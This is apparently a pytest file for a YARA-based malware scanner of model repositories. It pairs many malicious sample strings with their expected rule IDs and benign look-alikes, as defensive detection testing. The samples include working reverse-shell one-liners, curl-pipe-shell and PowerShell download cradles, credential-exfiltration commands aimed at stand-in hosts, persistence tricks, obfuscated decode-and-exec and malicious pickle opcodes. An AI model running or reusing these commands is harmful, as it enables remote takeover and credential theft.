"""YARA rules against variants an attacker who read them would write, and their benign look-alikes.

Each malicious row is one technique family written another way (quoting,
spacing, another tool or language, another file type of a model repo); each
benign row is the ordinary code or prose that shares its words. Samples are
strings written to a temp repo and scanned, never run: hosts are ``.invalid``
or 127.0.0.1, credential paths are only named.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from loadguard.engine import scan_snapshot
from loadguard.model import Finding, Severity
from loadguard.sources.local import snapshot_from_folder

pytest.importorskip("yara")
MakeRepo = Callable[..., Path]
CRITICAL, HIGH, MEDIUM, LOW = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW


def yara_findings(root: Path) -> list[Finding]:
    result = scan_snapshot(snapshot_from_folder(root), analyzers=["yara"])
    assert not [e for e in result.errors if e.stage == "yara"], result.errors
    return [f for f in result.findings if f.analyzer == "yara"]


def _notebook(*lines: str) -> str:
    return json.dumps({"cells": [{"cell_type": "code", "source": list(lines)}]})


# (file name, content, rule id expected, severity at least)
MALICIOUS = [
    # download-exec: process substitution, $(...) handed to an interpreter, other fetchers
    ("setup.sh", "bash <(curl -s https://x.invalid/i.sh)\n", "LG-YARA-DLEXEC-001", CRITICAL),
    ("setup.sh", "bash < <(curl -s https://x.invalid/i.sh)\n", "LG-YARA-DLEXEC-001", CRITICAL),
    ("setup.sh", ". <(curl -s https://x.invalid/i)\n", "LG-YARA-DLEXEC-001", CRITICAL),
    ("setup.sh", "source <(wget -qO- http://x.invalid/i)\n", "LG-YARA-DLEXEC-001", CRITICAL),
    ("setup.sh", "python3 <(curl -s https://x.invalid/p.py)\n", "LG-YARA-DLEXEC-001", CRITICAL),
    (
        "setup.sh",
        'python -c "$(curl -fsSL https://x.invalid/p.py)"\n',
        "LG-YARA-DLEXEC-001",
        CRITICAL,
    ),
    ("setup.sh", 'eval "$(curl -s http://x.invalid/i)"\n', "LG-YARA-DLEXEC-001", CRITICAL),
    (
        "setup.sh",
        "curl -s http://u@x.invalid:8080/i | sudo -E bash\n",
        "LG-YARA-DLEXEC-001",
        CRITICAL,
    ),
    ("setup.sh", "curl -s http://x.invalid/i | env bash\n", "LG-YARA-DLEXEC-001", CRITICAL),
    ("setup.sh", "curl -s http://x.invalid/i | tee /tmp/x | sh\n", "LG-YARA-DLEXEC-001", CRITICAL),
    ("setup.sh", "curl -s http://x.invalid/p.pl | perl\n", "LG-YARA-DLEXEC-001", CRITICAL),
    ("setup.sh", "fetch -o - http://x.invalid/i | sh\n", "LG-YARA-DLEXEC-001", CRITICAL),
    (
        "setup.sh",
        "aria2c -d /tmp -o i.sh http://x.invalid/i && sh /tmp/i.sh\n",
        "LG-YARA-DLEXEC-001",
        CRITICAL,
    ),
    (
        "setup.sh",
        "wget http://x.invalid/i -O /dev/shm/i && chmod +x /dev/shm/i && /dev/shm/i\n",
        "LG-YARA-DLEXEC-001",
        CRITICAL,
    ),
    (
        "setup.sh",
        "curl -k https://192.0.2.1/i --output /tmp/.x && bash /tmp/.x\n",
        "LG-YARA-DLEXEC-001",
        CRITICAL,
    ),
    (
        "Makefile",
        "install:\n\t@wget -qO- http://x.invalid/i | $(SHELL)\n",
        "LG-YARA-DLEXEC-001",
        CRITICAL,
    ),
    (
        "Dockerfile",
        "FROM python:3.11\nRUN curl -fsSL https://x.invalid/i.sh | bash\n",
        "LG-YARA-DLEXEC-001",
        CRITICAL,
    ),
    # download-exec in Python: aliases, compile(), __import__, two steps
    (
        "m.py",
        "import urllib.request as u\nexec(u.urlopen('http://x.invalid/p').read().decode())\n",
        "LG-YARA-DLEXEC-002",
        CRITICAL,
    ),
    (
        "m.py",
        "exec(compile(urlopen('http://x.invalid/p').read(), 'x', 'exec'))\n",
        "LG-YARA-DLEXEC-002",
        CRITICAL,
    ),
    (
        "m.py",
        "exec(__import__('urllib.request').request.urlopen('http://x.invalid/p').read())\n",
        "LG-YARA-DLEXEC-002",
        CRITICAL,
    ),
    (
        "m.py",
        "import requests\nr = requests.get('http://x.invalid/p')\nexec(r.text)\n",
        "LG-YARA-DLEXEC-002",
        CRITICAL,
    ),
    # install-time: untrusted package indexes (requirements files are not prose)
    (
        "requirements.txt",
        "torch\n--extra-index-url http://pypi.x.invalid/simple\nhelper\n",
        "LG-YARA-DLEXEC-004",
        MEDIUM,
    ),
    (
        "requirements-gpu.txt",
        "--index-url https://192.0.2.5:8080/simple\ntorch\n",
        "LG-YARA-DLEXEC-004",
        MEDIUM,
    ),
    (
        "setup.py",
        "import os\nos.system('pip install --trusted-host x.invalid helper')\n",
        "LG-YARA-DLEXEC-004",
        MEDIUM,
    ),
    (
        "m.py",
        "import os, sys\nos.system(sys.executable + ' -m pip install helper')\n",
        "LG-YARA-DLEXEC-003",
        MEDIUM,
    ),
    # Windows cradles
    (
        "install.ps1",
        "IEX (New-Object Net.WebClient).DownloadString('http://x.invalid/a.ps1')\n",
        "LG-YARA-DLEXEC-005",
        CRITICAL,
    ),
    (
        "install.ps1",
        "iex(iwr -UseBasicParsing http://x.invalid/a.ps1)\n",
        "LG-YARA-DLEXEC-005",
        CRITICAL,
    ),
    (
        "install.ps1",
        "Invoke-Expression (Invoke-WebRequest -Uri http://x.invalid/a).Content\n",
        "LG-YARA-DLEXEC-005",
        CRITICAL,
    ),
    ("install.ps1", "irm http://x.invalid/a.ps1 | iex\n", "LG-YARA-DLEXEC-005", CRITICAL),
    (
        "run.bat",
        "certutil -urlcache -split -f http://x.invalid/a.exe %TEMP%\\a.exe\n",
        "LG-YARA-DLEXEC-005",
        CRITICAL,
    ),
    (
        "run.bat",
        "bitsadmin /transfer j http://x.invalid/a.exe %TEMP%\\a.exe\n",
        "LG-YARA-DLEXEC-005",
        CRITICAL,
    ),
    ("run.bat", "mshta http://x.invalid/a.hta\n", "LG-YARA-DLEXEC-005", CRITICAL),
    (
        "run.bat",
        "powershell -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A\n",
        "LG-YARA-OBF-003",
        CRITICAL,
    ),
    ("run.bat", "powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi\n", "LG-YARA-OBF-003", CRITICAL),
    # reverse shells: argument order, other tools and languages
    ("run.sh", "nc 127.0.0.1 4444 -e /bin/bash\n", "LG-YARA-REVSHELL-003", CRITICAL),
    ("run.sh", "ncat --exec /bin/sh 127.0.0.1 4444\n", "LG-YARA-REVSHELL-003", CRITICAL),
    ("run.sh", "nc -c bash 127.0.0.1 4444\n", "LG-YARA-REVSHELL-003", CRITICAL),
    ("run.sh", "busybox nc 127.0.0.1 4444 -e sh\n", "LG-YARA-REVSHELL-003", CRITICAL),
    (
        "run.sh",
        "mkfifo /tmp/.p; /bin/sh -i < /tmp/.p 2>&1 | nc 127.0.0.1 4444 > /tmp/.p\n",
        "LG-YARA-REVSHELL-003",
        CRITICAL,
    ),
    (
        "run.sh",
        "mknod /tmp/p p && /bin/sh 0</tmp/p | nc 127.0.0.1 4444 1>/tmp/p\n",
        "LG-YARA-REVSHELL-003",
        CRITICAL,
    ),
    ("run.sh", "socat tcp:127.0.0.1:4444 system:bash\n", "LG-YARA-REVSHELL-003", CRITICAL),
    (
        "run.sh",
        "telnet 127.0.0.1 4444 | /bin/bash | telnet 127.0.0.1 4445\n",
        "LG-YARA-REVSHELL-003",
        CRITICAL,
    ),
    (
        "run.sh",
        'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("127.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");\'\n',
        "LG-YARA-REVSHELL-004",
        CRITICAL,
    ),
    (
        "run.sh",
        'ruby -rsocket -e\'f=TCPSocket.open("127.0.0.1",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)\'\n',
        "LG-YARA-REVSHELL-004",
        CRITICAL,
    ),
    (
        "run.sh",
        'php -r \'$s=fsockopen("127.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'\n',
        "LG-YARA-REVSHELL-004",
        CRITICAL,
    ),
    (
        "run.sh",
        "lua -e \"t=socket.tcp();t:connect('127.0.0.1','4444');os.execute('/bin/sh -i <&3 >&3')\"\n",
        "LG-YARA-REVSHELL-004",
        CRITICAL,
    ),
    (
        "run.sh",
        "awk 'BEGIN {s = \"/inet/tcp/0/127.0.0.1/4444\"; s |& getline c}' /dev/null\n",
        "LG-YARA-REVSHELL-004",
        CRITICAL,
    ),
    (
        "run.sh",
        "zsh -c 'zmodload zsh/net/tcp && ztcp 127.0.0.1 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'\n",
        "LG-YARA-REVSHELL-004",
        CRITICAL,
    ),
    (
        "m.py",
        "import socket,os,pty\ns=socket.create_connection(('127.0.0.1',4444))\nfor fd in (0,1,2):\n    os.dup2(s.fileno(),fd)\npty.spawn('/bin/bash')\n",
        "LG-YARA-REVSHELL-001",
        CRITICAL,
    ),
    (
        "m.py",
        "import socket,os,pty\ns=socket.socket()\ns.connect(('127.0.0.1',4444))\nfd=s.fileno()\nos.dup2(fd,0);os.dup2(fd,1)\npty.spawn('/bin/sh')\n",
        "LG-YARA-REVSHELL-001",
        CRITICAL,
    ),
    (
        "m.py",
        "import socket,subprocess\ns=socket.socket()\ns.connect(('127.0.0.1',4444))\nsubprocess.Popen(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno())\n",
        "LG-YARA-REVSHELL-001",
        CRITICAL,
    ),
    (
        "m.py",
        "import socket,subprocess\ns=socket.socket()\ns.connect(('127.0.0.1',4444))\nwhile True:\n    c=s.recv(1024).decode()\n    o=subprocess.run(c,shell=True,capture_output=True)\n    s.send(o.stdout)\n",
        "LG-YARA-REVSHELL-001",
        CRITICAL,
    ),
    # credentials: shell dumps and uploads, joined Python paths, more stores
    ("run.sh", "env | curl -d @- http://x.invalid/c\n", "LG-YARA-CRED-004", HIGH),
    ("run.sh", "printenv | base64 | curl -d @- http://x.invalid/c\n", "LG-YARA-CRED-004", HIGH),
    ("run.sh", 'curl -d "$(env)" http://x.invalid/c\n', "LG-YARA-CRED-004", HIGH),
    ("run.sh", "curl http://x.invalid/?t=$HF_TOKEN\n", "LG-YARA-CRED-004", HIGH),
    (
        "run.sh",
        'wget --post-data="k=$AWS_SECRET_ACCESS_KEY" http://x.invalid/c\n',
        "LG-YARA-CRED-004",
        HIGH,
    ),
    (
        "run.sh",
        "tar czf - ~/.ssh | curl -X POST --data-binary @- http://x.invalid/c\n",
        "LG-YARA-CRED-004",
        HIGH,
    ),
    ("run.sh", "curl -F f=@$HOME/.ssh/id_ed25519 http://x.invalid/u\n", "LG-YARA-CRED-004", HIGH),
    ("run.sh", "cat ~/.cache/huggingface/token | nc x.invalid 80\n", "LG-YARA-CRED-004", HIGH),
    (
        "m.py",
        "import os\np = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')\n",
        "LG-YARA-CRED-001",
        MEDIUM,
    ),
    (
        "m.py",
        "from pathlib import Path\nk = Path.home() / '.ssh' / 'id_rsa'\n",
        "LG-YARA-CRED-001",
        MEDIUM,
    ),
    (
        "m.py",
        "import glob, os\nkeys = glob.glob(os.path.expanduser('~/.ssh/id_*'))\n",
        "LG-YARA-CRED-001",
        MEDIUM,
    ),
    ("run.sh", "cat ~/.ssh/id_ecdsa_sk\n", "LG-YARA-CRED-001", MEDIUM),
    ("run.sh", "cat ~/.huggingface/token\n", "LG-YARA-CRED-001", MEDIUM),
    ("run.sh", "cat ~/.config/gh/hosts.yml\n", "LG-YARA-CRED-001", MEDIUM),
    (
        "run.sh",
        "cp ~/.config/google-chrome/Default/Login\\ Data /tmp/l\n",
        "LG-YARA-CRED-001",
        MEDIUM,
    ),
    ("run.sh", "cat ~/.mozilla/firefox/*/logins.json\n", "LG-YARA-CRED-001", MEDIUM),
    (
        "m.py",
        "P = [os.path.join(h, '.aws', 'credentials'), os.path.join(h, '.kube', 'config')]\n",
        "LG-YARA-CRED-002",
        HIGH,
    ),
    # exfiltration endpoints
    (
        "m.py",
        "U = 'https://discord.com/api/v10/webhooks/123456/abcdef'\n",
        "LG-YARA-EXFIL-001",
        HIGH,
    ),
    ("m.py", "U = 'https://paste.rs/abcd'\n", "LG-YARA-EXFIL-002", HIGH),
    ("m.py", "U = 'https://0x0.st'\n", "LG-YARA-EXFIL-002", HIGH),
    ("m.py", "U = 'https://bashupload.com/x'\n", "LG-YARA-EXFIL-002", HIGH),
    ("m.py", "U = 'https://abc123.ngrok.app/c'\n", "LG-YARA-EXFIL-002", HIGH),
    ("m.py", "U = 'http://abc.oastify.com'\n", "LG-YARA-EXFIL-002", HIGH),
    ("m.py", "U = 'http://abcdef.interactsh.com'\n", "LG-YARA-EXFIL-002", HIGH),
    ("m.py", "U = 'https://requestbin.net/r/abc'\n", "LG-YARA-EXFIL-002", HIGH),
    ("m.py", "U = 'https://abc.requestcatcher.com/'\n", "LG-YARA-EXFIL-002", HIGH),
    ("m.py", "U = 'https://hookb.in/abc'\n", "LG-YARA-EXFIL-002", HIGH),
    ("m.py", "U = 'http://abc.dnslog.cn'\n", "LG-YARA-EXFIL-002", HIGH),
    ("m.py", "U = 'https://abc.loca.lt'\n", "LG-YARA-EXFIL-002", HIGH),
    ("config.yaml", "callback: https://abc.free.beeceptor.com/x\n", "LG-YARA-EXFIL-002", HIGH),
    # miners
    ("run.sh", "./miner -o stratum2+tcp://pool.x.invalid:3333\n", "LG-YARA-MINER-001", HIGH),
    ("run.sh", "./bminer -uri ethstratum://0x1@pool.x.invalid:4444\n", "LG-YARA-MINER-001", HIGH),
    ("run.sh", "./gminer -a kawpow -s pool.x.invalid:3333\n", "LG-YARA-MINER-002", HIGH),
    ("run.sh", "./xmr-stak --currency monero\n", "LG-YARA-MINER-002", HIGH),
    ("run.sh", "./t-rex -a kawpow -o pool.x.invalid:3333\n", "LG-YARA-MINER-002", HIGH),
    ("run.sh", "./m --cpu-max-threads-hint=75 --randomx-1gb-pages\n", "LG-YARA-MINER-002", HIGH),
    ("config.yaml", "pool: gulf.moneroocean.stream:10128\n", "LG-YARA-MINER-002", HIGH),
    (
        "config.json",
        '{"algo": "rx/0", "url": "pool.x.invalid:3333", "user": "4ABC"}',
        "LG-YARA-MINER-002",
        HIGH,
    ),
    # persistence
    ("run.sh", "printf 'x' >> \"$HOME/.zshrc\"\n", "LG-YARA-PERSIST-001", HIGH),
    ("run.sh", "cat payload >> ~/.profile\n", "LG-YARA-PERSIST-001", HIGH),
    ("run.sh", "tee -a ~/.bashrc <<< 'x'\n", "LG-YARA-PERSIST-001", HIGH),
    ("run.sh", "echo 'x' >> /etc/rc.local\n", "LG-YARA-PERSIST-001", HIGH),
    ("run.sh", "echo 'x' > /etc/profile.d/zz.sh\n", "LG-YARA-PERSIST-001", HIGH),
    ("run.sh", "echo 'import x' > \"$SITE/zz.pth\"\n", "LG-YARA-PERSIST-002", HIGH),
    (
        "run.sh",
        "cp hook.py $PREFIX/lib/python3.11/site-packages/sitecustomize.py\n",
        "LG-YARA-PERSIST-002",
        HIGH,
    ),
    (
        "run.sh",
        "cp x.service ~/.config/systemd/user/ && systemctl --user enable x\n",
        "LG-YARA-PERSIST-003",
        HIGH,
    ),
    ("run.sh", "echo /tmp/x.so > /etc/ld.so.preload\n", "LG-YARA-PERSIST-003", HIGH),
    ("m.py", "open('/etc/ld.so.preload', 'w').write('/tmp/x.so')\n", "LG-YARA-PERSIST-003", HIGH),
    ("run.sh", "launchctl load ~/Library/LaunchAgents/com.x.plist\n", "LG-YARA-PERSIST-003", HIGH),
    (
        "m.py",
        "p = os.path.expanduser('~/.config/autostart/x.desktop')\nopen(p, 'w').write(entry)\n",
        "LG-YARA-PERSIST-003",
        HIGH,
    ),
    (
        "run.bat",
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\x.exe\n",
        "LG-YARA-PERSIST-003",
        HIGH,
    ),
    ("run.bat", "schtasks /create /sc minute /tn x /tr c:\\x.exe\n", "LG-YARA-PERSIST-003", HIGH),
    # obfuscation: shell decode-and-run
    ("run.sh", "echo Y3VybA== | base64 -d | sh\n", "LG-YARA-OBF-003", CRITICAL),
    ("run.sh", "echo Y3VybA== | base64 --decode | bash\n", "LG-YARA-OBF-003", CRITICAL),
    ("run.sh", "base64 -d <<< Y3VybA== | bash\n", "LG-YARA-OBF-003", CRITICAL),
    ("run.sh", "echo Y3VybA== | openssl enc -d -base64 | sh\n", "LG-YARA-OBF-003", CRITICAL),
    ("run.sh", "echo H4sIAAAA | base64 -d | gunzip | sh\n", "LG-YARA-OBF-003", CRITICAL),
    ("run.sh", "echo 6375726c | xxd -r -p | sh\n", "LG-YARA-OBF-003", CRITICAL),
    ("run.sh", "printf '\\x63\\x75\\x72\\x6c' | sh\n", "LG-YARA-OBF-003", CRITICAL),
    (
        "run.sh",
        "eval \"$(echo 'hs | i/dilavni.x//:ptth lruc' | rev)\"\n",
        "LG-YARA-OBF-003",
        CRITICAL,
    ),
    ("run.sh", 'bash -c "$(echo Y3VybA== | base64 -d)"\n', "LG-YARA-OBF-003", CRITICAL),
    ("run.sh", "cat${IFS}/etc/hostname\n", "LG-YARA-OBF-003", CRITICAL),
    ("run.sh", "${PATH:0:1}bin${PATH:0:1}sh -c x\n", "LG-YARA-OBF-003", CRITICAL),
    # obfuscation: Python decode-and-exec through aliases and other spellings
    (
        "m.py",
        "import base64 as b\nexec(b.b64decode('cHJpbnQoMSk='))\n",
        "LG-YARA-OBF-001",
        CRITICAL,
    ),
    (
        "m.py",
        "from base64 import b64decode\nexec(b64decode('cHJpbnQoMSk='))\n",
        "LG-YARA-OBF-001",
        CRITICAL,
    ),
    (
        "m.py",
        "exec(__import__('zlib').decompress(__import__('base64').b64decode('eJw=')))\n",
        "LG-YARA-OBF-001",
        CRITICAL,
    ),
    (
        "run.sh",
        "python -c \"exec(__import__('base64').b64decode('cHJpbnQoMSk='))\"\n",
        "LG-YARA-OBF-001",
        CRITICAL,
    ),
    ("m.py", "exec(bytes([112, 114]).decode())\n", "LG-YARA-OBF-001", CRITICAL),
    ("m.py", "exec('tnirp'[::-1])\n", "LG-YARA-OBF-001", CRITICAL),
    ("m.py", "getattr(__import__('os'), 'metsys'[::-1])('true')\n", "LG-YARA-OBF-002", HIGH),
    ("m.py", "__import__('builtins').exec('x=1')\n", "LG-YARA-OBF-002", HIGH),
    ("m.py", "vars(__builtins__)['ex' + 'ec']('x=1')\n", "LG-YARA-OBF-002", HIGH),
    # second round, against the widened rules
    (
        "setup.sh",
        "curl -fsSL \\\n  https://x.invalid/i.sh \\\n  | sh\n",
        "LG-YARA-DLEXEC-001",
        CRITICAL,
    ),
    (
        "m.py",
        "import requests\nexec(requests.get('http://x.invalid/p').json()['code'])\n",
        "LG-YARA-DLEXEC-002",
        CRITICAL,
    ),
    (
        "m.py",
        "import requests\nr = requests.get('http://x.invalid/p')\nexec(r.content.decode())\n",
        "LG-YARA-DLEXEC-002",
        CRITICAL,
    ),
    (
        "m.py",
        "import socket, subprocess\ns = socket.socket()\ns.connect(('127.0.0.1', 4444))\nsubprocess.Popen(['/bin/sh'], stdin=s.makefile('rb'))\n",
        "LG-YARA-REVSHELL-001",
        CRITICAL,
    ),
    (
        "m.py",
        "from crontab import CronTab\ncron = CronTab(user=True)\njob = cron.new(command='/tmp/x')\ncron.write()\n",
        "LG-YARA-PERSIST-003",
        HIGH,
    ),
    ("run.sh", "nslookup $(whoami).x.invalid\n", "LG-YARA-EXFIL-003", HIGH),
    ("run.sh", "dig `cat /tmp/f | base64`.x.invalid\n", "LG-YARA-EXFIL-003", HIGH),
    (
        "m.py",
        "from base64 import b64decode as d\nexec(d('" + "QUFB" * 40 + "'))\n",
        "LG-YARA-OBF-001",
        CRITICAL,
    ),
    (
        "setup.sh",
        "curl -s http://x.invalid/i | sudo -u root bash\n",
        "LG-YARA-DLEXEC-001",
        CRITICAL,
    ),
    ("setup.sh", "curl -s http://x.invalid/i | env X=1 'sh'\n", "LG-YARA-DLEXEC-001", CRITICAL),
    (
        "m.py",
        "import base64, os\nos.system(base64.b64decode('Y3VybA=='))\n",
        "LG-YARA-OBF-001",
        CRITICAL,
    ),
    (
        "m.py",
        "import subprocess\nsubprocess.run(b64decode(CMD), shell=True)\n",
        "LG-YARA-OBF-001",
        CRITICAL,
    ),
    ("run.sh", "nc.traditional -e /bin/sh 127.0.0.1 4444\n", "LG-YARA-REVSHELL-003", CRITICAL),
    (
        "run.sh",
        "nc 127.0.0.1 4444 | /bin/sh | nc 127.0.0.1 4445\n",
        "LG-YARA-REVSHELL-003",
        CRITICAL,
    ),
    ("m.py", "t = open(os.path.expanduser('~/.npmrc')).read()\n", "LG-YARA-CRED-001", MEDIUM),
    ("m.py", "U = 'http://ix.io'\n", "LG-YARA-EXFIL-002", HIGH),
    (
        "config.json",
        '{"donate-level": 1, "pools": [{"url": "pool.x.invalid:3333"}]}',
        "LG-YARA-MINER-002",
        HIGH,
    ),
    ("run.sh", "echo 'x' >> ~/.config/fish/config.fish\n", "LG-YARA-PERSIST-001", HIGH),
    # two steps through a variable, a few lines apart
    (
        "m.py",
        "import urllib.request\nbody = urllib.request.urlopen('http://x.invalid/p').read().decode()\nexec(body)\n",
        "LG-YARA-DLEXEC-002",
        CRITICAL,
    ),
    (
        "m.py",
        "import io, pickle, requests\nr = requests.get('http://x.invalid/s.pkl')\nobj = pickle.load(io.BytesIO(r.content))\n",
        "LG-YARA-DLEXEC-002",
        CRITICAL,
    ),
    (
        "m.py",
        "raw = urlopen('http://x.invalid/m.pt').read()\nsd = torch.load(io.BytesIO(raw), weights_only=False)\n",
        "LG-YARA-DLEXEC-002",
        CRITICAL,
    ),
    (
        "m.py",
        "from base64 import b64decode\ncode = b64decode('cHJpbnQoMSk=')\nexec(code)\n",
        "LG-YARA-OBF-001",
        CRITICAL,
    ),
    (
        "m.py",
        "import subprocess\nsubprocess.run('python -m pip install --index-url http://x.invalid/simple h', shell=True)\n",
        "LG-YARA-DLEXEC-006",
        HIGH,
    ),
    (
        "m.py",
        "import os, requests\nt = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('http://x.invalid/c', data=t)\n",
        "LG-YARA-CRED-004",
        HIGH,
    ),
    # the same payloads inside JSON-escaped notebook code are found, capped as prose
    ("demo.ipynb", _notebook("!curl -s http://x.invalid/i | sh\n"), "LG-YARA-DLEXEC-001", LOW),
]


@pytest.mark.parametrize(
    ("name", "content", "rule_id", "at_least"),
    MALICIOUS,
    ids=[f"{row[2]}:{row[1].splitlines()[-1][:40]}" for row in MALICIOUS],
)
def test_variant_fires(
    make_repo: MakeRepo, name: str, content: str, rule_id: str, at_least: Severity
) -> None:
    found = [f for f in yara_findings(make_repo({name: content})) if f.rule_id == rule_id]
    assert found, f"{rule_id} missed {content!r}"
    assert found[0].severity >= at_least


def _stack_global(module: str, name: str, between: bytes = b"\x94") -> bytes:
    # Protocol 4 opcodes assembled by hand; never unpickled.
    def short(text: str) -> bytes:
        return b"\x8c" + bytes([len(text)]) + text.encode()

    return (
        b"\x80\x04"
        + short(module)
        + between
        + short(name)
        + b"\x94\x93"
        + short("true")
        + b"\x85R."
    )


@pytest.mark.parametrize(
    ("data", "rule_id"),
    [
        (_stack_global("os", "system", b"\x94h\x00"), "LG-YARA-PICKLE-002"),  # BINGET in between
        (_stack_global("os", "system", b"\x94j\x00\x00\x00\x00"), "LG-YARA-PICKLE-002"),
        (_stack_global("pip", "main"), "LG-YARA-PICKLE-002"),
        (_stack_global("timeit", "timeit"), "LG-YARA-PICKLE-002"),
        (_stack_global("cProfile", "run"), "LG-YARA-PICKLE-002"),
        (_stack_global("numpy.testing._private.utils", "runstring"), "LG-YARA-PICKLE-002"),
        (b"cpdb\nrun\n(S'x'\ntR.", "LG-YARA-PICKLE-001"),
        (b"crunpy\n_run_module_as_main\n(S'x'\ntR.", "LG-YARA-PICKLE-001"),
        (b"(S'true'\nios\nsystem\n.", "LG-YARA-PICKLE-001"),
        (_stack_global("_posixsubprocess", "fork_exec"), "LG-YARA-PICKLE-002"),
        (b"cctypes\nCDLL\n(S'x.so'\ntR.", "LG-YARA-PICKLE-001"),  # INST calls what it names
        (b"\x80\x04U\x02osU\x06system\x93.", "LG-YARA-PICKLE-002"),  # SHORT_BINSTRING
        (b"\x80\x04\x8d\x02" + b"\x00" * 7 + b"os\x8c\x06system\x93.", "LG-YARA-PICKLE-002"),
    ],
)
def test_pickle_variants(make_repo: MakeRepo, data: bytes, rule_id: str) -> None:
    found = yara_findings(make_repo({"model.pkl": data}))
    assert rule_id in {f.rule_id for f in found}


# Ordinary files sharing words with the rules above: quiet, or LOW at most.
BENIGN = [
    ("README.md", "```bash\nbash <(curl -s https://get.x.invalid/i)\n```\n"),
    ("README.md", "Windows: `irm https://x.invalid/install.ps1 | iex`\n"),
    ("README.md", "Our detector builds on T-Rex2 and stratum-aware sampling.\n"),
    ("install.sh", "pip install -r requirements.txt\npip install -e .\n"),
    (
        "download.sh",
        "wget https://data.x.invalid/coco.zip -O /tmp/coco.zip && unzip /tmp/coco.zip -d data/\n",
    ),
    ("download.sh", "curl -s https://api.x.invalid/releases | python -m json.tool\n"),
    ("download.sh", "wget -q https://x.invalid/data.tar.gz -O - | tar xz\n"),
    (
        "cuda.sh",
        "wget https://developer.download.nvidia.com/compute/cuda/12.1.0/local_installers/cuda_12.1.0_530.30.02_linux.run\nsudo sh cuda_12.1.0_530.30.02_linux.run --silent --toolkit\n",
    ),
    ("run.sh", "export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4\npython train.py\n"),
    (
        "requirements.txt",
        "--extra-index-url https://download.pytorch.org/whl/cu118\ntorch==2.1.0\ngit+https://github.com/huggingface/transformers.git\n-f https://data.pyg.org/whl/torch-2.1.0+cu118.html\n",
    ),
    (
        "environment.yml",
        "name: x\ndependencies:\n  - python=3.10\n  - pip:\n    - --extra-index-url https://download.pytorch.org/whl/cu118\n    - torch\n",
    ),
    (
        "Dockerfile",
        "FROM python:3.11\nHEALTHCHECK CMD bash -c '</dev/tcp/localhost/8080' || exit 1\n",
    ),
    (
        "m.py",
        "import os\ncache = os.path.join(os.path.expanduser('~'), '.cache', 'huggingface', 'hub')\n",
    ),
    ("run.sh", "docker run -v ~/.cache/huggingface:/root/.cache/huggingface image\n"),
    ("hf.sh", 'curl -H "Authorization: Bearer $HF_TOKEN" https://huggingface.co/api/whoami-v2\n'),
    ("m.py", "import base64, io\nimg = Image.open(io.BytesIO(base64.b64decode(data)))\n"),
    ("run.sh", "echo $DATA | base64 -d > image.png\n"),
    ("m.py", "import subprocess\nsubprocess.run(['nvidia-smi'], check=True)\n"),
    ("m.py", "import subprocess\nsubprocess.run('nc -z localhost 8080', shell=True)\n"),
    (
        "m.py",
        "import socket\ns = socket.socket()\ns.connect(('localhost', 1))\ns.sendall(b'ping')\nprint(s.recv(1024))\n",
    ),
    ("m.py", "p = subprocess.Popen(cmd, stdin=subprocess.PIPE, stdout=log.fileno())\n"),
    ("m.py", "import requests\nr = requests.get(url)\nconfig = json.loads(r.text)\n"),
    ("m.py", "s = 'abc'[::-1]\nprint(bytes([72, 105]).decode())\n"),
    ("m.py", "import os\nos.system('printenv | grep CUDA')\n"),
    ("run.sh", '#!/bin/bash\nwhile IFS= read -r line; do echo "$line"; done < list.txt\n'),
    ("run.sh", 'compgen -W "configure${IFS}build${IFS}test" -- "$cur"\n'),
    ("run.sh", "mkfifo /tmp/progress\ncat /tmp/progress | tqdm > /dev/null &\n"),
    ("setup.py", "exec(open('src/x/version.py').read())\nsetup(name='x')\n"),
    (
        "notebook.ipynb",
        _notebook("!pip install -q transformers\n", "!wget -q https://x.invalid/d.zip\n"),
    ),
    ("tests/test_codec.py", "def test_decode():\n    assert base64.b64decode('aGk=') == b'hi'\n"),
    ("LICENSE", 'THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND.\n'),
    ("m.py", "import trex  # T-Rex: open-set detection\nstrata = df.groupby('stratum')\n"),
    ("healthcheck.sh", "ping -c 1 $(hostname)\nnslookup huggingface.co\n"),
    ("m.py", "img = base64.b64decode(data)\nmodel.eval()\nout = model(img)\n"),
    (
        "m.py",
        "r = requests.get(url)\nopen(p, 'wb').write(r.content)\nsd = torch.load(p, weights_only=True)\nmodel.eval()\n",
    ),
    ("vocab.txt", "paint\nmain\nprint\nopen\nscenarios\nrun\nmacos\nsystem\n"),
    ("m.py", "from crontab import CronTab  # documented, not used\n"),
    ("m.py", "value = eval(compute(x))\nexec(compile(src, path, 'exec'))\n"),
]


@pytest.mark.parametrize(
    ("name", "content"), BENIGN, ids=[f"{row[0]}:{row[1][:40]}" for row in BENIGN]
)
def test_look_alike_stays_low(make_repo: MakeRepo, name: str, content: str) -> None:
    loud = [
        (f.rule_id, f.severity.name)
        for f in yara_findings(make_repo({name: content}))
        if f.severity > Severity.LOW
    ]
    assert not loud, content


# Look-alikes that an existing MEDIUM rule reports by design (a runtime pip install,
# one credential store named) and that the newer HIGH rules must leave alone.
BENIGN_MEDIUM = [
    (
        "m.py",
        "subprocess.run([sys.executable, '-m', 'pip', 'install', 'torch', '--index-url', 'https://download.pytorch.org/whl/cu121'])\n",
    ),
    (
        "m.py",
        "import netrc, urllib.request\nauth = netrc.netrc(os.path.expanduser('~/.netrc'))\nurllib.request.urlopen(url)\n",
    ),
]


@pytest.mark.parametrize(
    ("name", "content"), BENIGN_MEDIUM, ids=[f"{row[0]}:{row[1][:40]}" for row in BENIGN_MEDIUM]
)
def test_look_alike_stays_medium(make_repo: MakeRepo, name: str, content: str) -> None:
    loud = [
        (f.rule_id, f.severity.name)
        for f in yara_findings(make_repo({name: content}))
        if f.severity > Severity.MEDIUM
